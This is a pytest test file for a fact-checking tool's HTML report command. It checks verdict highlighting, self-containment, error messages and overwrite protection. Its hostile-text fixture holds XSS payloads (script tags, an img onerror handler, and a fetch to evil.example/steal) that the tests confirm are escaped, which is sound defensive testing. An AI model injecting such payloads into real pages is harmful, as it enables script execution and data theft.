"""`claimdesk report`: one self-contained HTML page per article.

Parsed with BeautifulSoup (structure, escaping, no external assets) and rendered in
headless Chromium (highlights drawn in their verdict colours, nothing fetched). The
browser test is skipped with the reason where /usr/bin/chromium or Playwright is
missing; never run `playwright install`.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import duckdb
import pytest
from bs4 import BeautifulSoup

from claimdesk.settings import Settings
from flows.cli import main
from store import review_queries
from store.db import session

from .test_sql_cmd import build_demo_db

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--no-first-run"]
ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts"

HOSTILE_TITLE = '</title><script>alert("title")</script>Plain & simple'
HOSTILE_CLAIM = '58% of "users" & <b>friends</b> agreed'
HOSTILE_TEXT = (
    f"{HOSTILE_TITLE}\n\nOfficials said <img src=x onerror=alert(1)> {HOSTILE_CLAIM}.\n"
    '<script>fetch("https://evil.example/steal")</script>\n<style>body{display:none}</style>\n'
)


@pytest.fixture(scope="module")
def report_db(tmp_path_factory: pytest.TempPathFactory, repo_settings: Settings) -> Path:
    """The demo database with one editor review that overrules the machine."""
    db = build_demo_db(tmp_path_factory.mktemp("report") / "demo.duckdb", repo_settings, tmp_path_factory.getbasetemp())
    with session(db) as con:
        row = con.execute("SELECT claim_id FROM claims WHERE contains(claim_text, 'between $10 and $20')").fetchone()
        assert row
        review_queries.add_review(con, row[0], "supported", "Checked with three clinics <b>by phone</b>.", "Ana Ortiz")
    return db


def _article_id(db: Path) -> str:
    con = duckdb.connect(str(db), read_only=True)
    try:
        rows = con.execute("SELECT article_id FROM articles").fetchall()
    finally:
        con.close()
    assert len(rows) == 1
    return str(rows[0][0])


def _verdicts(db: Path, article_id: str) -> dict[str, dict[str, Any]]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        cur = con.execute("SELECT * FROM claim_verdicts WHERE article_id = ?", [article_id])
        cols = [d[0] for d in cur.description]
        return {r[0]: dict(zip(cols, r, strict=True)) for r in cur.fetchall()}
    finally:
        con.close()


def _report(db: Path, article_id: str, out: Path) -> BeautifulSoup:
    assert main(["--db", str(db), "report", article_id, "--out", str(out)]) == 0
    return BeautifulSoup(out.read_text(encoding="utf-8"), "html.parser")


def _article_text(soup: BeautifulSoup) -> str:
    """The article as the page shows it, without the numbered links after each highlight."""
    article = BeautifulSoup(str(soup.select_one(".article-text")), "html.parser")
    for ref in article.select("a.ref"):
        ref.decompose()
    return article.get_text()


def _assert_self_contained(soup: BeautifulSoup) -> None:
    assert not soup.find_all(["script", "link", "img", "iframe", "object", "embed"])
    assert not soup.find_all(src=True)
    assert all(str(a["href"]).startswith("#") for a in soup.find_all(href=True))
    csp = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert csp is not None and "default-src 'none'" in csp["content"]
    assert len(soup.find_all("style")) == 1 and "url(" not in soup.style.get_text()


def test_report_marks_every_claim_in_its_verdict_colour(report_db, tmp_path):
    article_id = _article_id(report_db)
    soup = _report(report_db, article_id, tmp_path / "report.html")
    expected = _verdicts(report_db, article_id)
    _assert_self_contained(soup)

    marks = soup.select("mark.hl")
    assert {m["data-claim-id"] for m in marks} == set(expected)  # the demo claims do not overlap
    con = duckdb.connect(str(report_db), read_only=True)
    text = con.execute("SELECT text FROM articles WHERE article_id = ?", [article_id]).fetchone()[0]
    con.close()
    for m in marks:
        row = expected[m["data-claim-id"]]
        assert f"v-{row['verdict']}" in m["class"] and m["data-verdict"] == row["verdict"]
        assert m.get_text() == text[row["start_char"]:row["end_char"]] == row["claim_text"]
        assert m["id"] == f"claim-{row['claim_id']}"
    # The article reads as stored: highlights cut it but drop nothing.
    assert _article_text(soup) == text

    for cid, row in expected.items():
        card = soup.select_one(f"li.claim#detail-{cid}")
        assert card is not None and f"v-{row['verdict']}" in card["class"]
        body = card.get_text(" ")
        assert row["claim_text"] in body
        assert (row["explanation"] or "") in body
        if row["evidence_text"]:
            assert row["evidence_text"] in body and row["source_title"] in body

    # The editor overruled the machine: the page shows the editor's verdict and note, escaped.
    price = next(r for r in expected.values() if "$10 and $20" in r["claim_text"])
    card = soup.select_one(f"#detail-{price['claim_id']}")
    assert "v-supported" in card["class"] and "machine said unverifiable" in card.get_text(" ")
    assert "Checked with three clinics <b>by phone</b>." in card.get_text() and card.find("b") is None

    # The chart: one bar per verdict that occurs, with its count.
    bars = {g["data-verdict"]: int(g["data-count"]) for g in soup.select("svg.chart g[data-verdict]")}
    counts: dict[str, int] = {}
    for row in expected.values():
        counts[row["verdict"]] = counts.get(row["verdict"], 0) + 1
    assert bars == counts and sum(bars.values()) == len(expected)


def test_report_escapes_hostile_article_text(report_db, tmp_path):
    """Article text, titles and notes are data: markup in them shows as text and never runs."""
    db = tmp_path / "hostile.duckdb"
    db.write_bytes(report_db.read_bytes())
    start = HOSTILE_TEXT.index(HOSTILE_CLAIM)
    end = start + len(HOSTILE_CLAIM)
    inner = HOSTILE_TEXT.index("<b>friends</b>")
    with session(db) as con:
        con.execute("INSERT INTO articles (article_id, path, title, text, content_hash) VALUES ('evil', ?, ?, ?, 'h')",
                    ["/tmp/<evil>.txt", HOSTILE_TITLE, HOSTILE_TEXT])
        for cid, (s, e) in {"c-evil": (start, end), "c-inner": (inner, inner + 14)}.items():
            con.execute(
                "INSERT INTO claims (claim_id, article_id, sentence, sentence_start, sentence_end, claim_text, start_char,"
                " end_char, claim_type, checkable, extractor, extractor_version)"
                " VALUES (?, 'evil', ?, ?, ?, ?, ?, ?, 'quantity', true, 'test', '0')",
                [cid, HOSTILE_TEXT[s:e], s, e, HOSTILE_TEXT[s:e], s, e],
            )
        con.execute("INSERT INTO verdicts (claim_id, verdict, confidence, flagged, explanation, judge_version)"
                    " VALUES ('c-evil', 'contradicted', 0.9, true, '<script>alert(2)</script> differs', 't')")
    soup = _report(db, "evil", tmp_path / "evil.html")
    _assert_self_contained(soup)
    assert soup.title.get_text() == f"{HOSTILE_TITLE} · claimdesk report"
    assert _article_text(soup) == HOSTILE_TEXT
    assert not soup.select(".article-text *:not(mark):not(a)")  # no tag from the article survived
    marks = soup.select("mark.hl")
    assert [m["data-claim-id"] for m in marks] == ["c-evil"]  # the overlapping claim is listed, not marked
    assert marks[0].get_text() == HOSTILE_CLAIM and "v-contradicted" in marks[0]["class"]
    assert soup.select_one("#detail-c-inner") is not None and "v-pending" in soup.select_one("#detail-c-inner")["class"]
    assert "<script>alert(2)</script> differs" in soup.select_one("#detail-c-evil").get_text()


def test_unknown_article_is_one_line_naming_it(report_db, tmp_path, capsys):
    out = tmp_path / "none.html"
    assert main(["--db", str(report_db), "report", "no-such-article", "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "no-such-article" in err and err.startswith("claimdesk: ")
    assert not out.exists()


@pytest.mark.browser
def test_report_renders_in_chromium(report_db, tmp_path):
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} is not installed (apt-get install chromium)")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError as exc:
        pytest.skip(f"the playwright package is not installed ({exc})")
    article_id = _article_id(report_db)
    out = tmp_path / "report.html"
    _report(report_db, article_id, out)
    expected = _verdicts(report_db, article_id)

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 900})
            requests: list[str] = []
            problems: list[str] = []
            page.on("request", lambda r: requests.append(r.url))
            page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
            page.on("pageerror", lambda e: problems.append(str(e)))
            page.goto(out.as_uri())
            page.wait_for_load_state("load")

            assert requests == [out.as_uri()]  # nothing fetched but the page itself
            assert problems == []
            marks = page.locator("mark.hl")
            assert marks.count() == len(expected)
            seen = marks.evaluate_all(
                "els => els.map(e => [e.dataset.claimId, e.className, getComputedStyle(e).backgroundColor,"
                " getComputedStyle(e).borderBottomColor, e.getBoundingClientRect().width])"
            )
            colours: dict[str, set[str]] = {}
            for cid, cls, bg, border, width in seen:
                verdict = expected[cid]["verdict"]
                assert f"v-{verdict}" in cls.split() and width > 0
                colours.setdefault(verdict, set()).add(bg)
                assert bg != "rgba(0, 0, 0, 0)" and border != bg
            # One colour per verdict, and different verdicts look different.
            assert all(len(c) == 1 for c in colours.values())
            assert len({next(iter(c)) for c in colours.values()}) == len(colours)
            # The report draws highlights with the desk's stylesheet, so a verdict looks the same in both.
            assert colours["contradicted"] != colours["supported"]

            bars = page.locator("svg.chart rect.bar")
            assert bars.count() == len({r["verdict"] for r in expected.values()})
            assert all(b["width"] > 0 for b in bars.evaluate_all("els => els.map(e => e.getBoundingClientRect().toJSON())"))

            # Following a highlight's reference lands on its claim card.
            first = next(iter(sorted(expected.values(), key=lambda r: r["start_char"])))
            page.click(f"a.ref[href='#detail-{first['claim_id']}']")
            assert page.evaluate("location.hash") == f"#detail-{first['claim_id']}"
            assert page.locator(f"#detail-{first['claim_id']}").is_visible()
            ARTIFACTS.mkdir(exist_ok=True)
            page.goto(out.as_uri())
            page.screenshot(path=str(ARTIFACTS / "report.png"), full_page=True)
        finally:
            browser.close()


def test_report_never_replaces_a_file_without_force(report_db, tmp_path, capsys):
    article_id = _article_id(report_db)
    out = tmp_path / "report.html"
    out.write_text("yesterday's report")
    assert main(["--db", str(report_db), "report", article_id, "--out", str(out)]) == 2
    assert "already exists; pass --force" in capsys.readouterr().err and out.read_text() == "yesterday's report"
    assert main(["--db", str(report_db), "report", article_id, "--out", str(out), "--force"]) == 0
    assert "<html" in out.read_text()
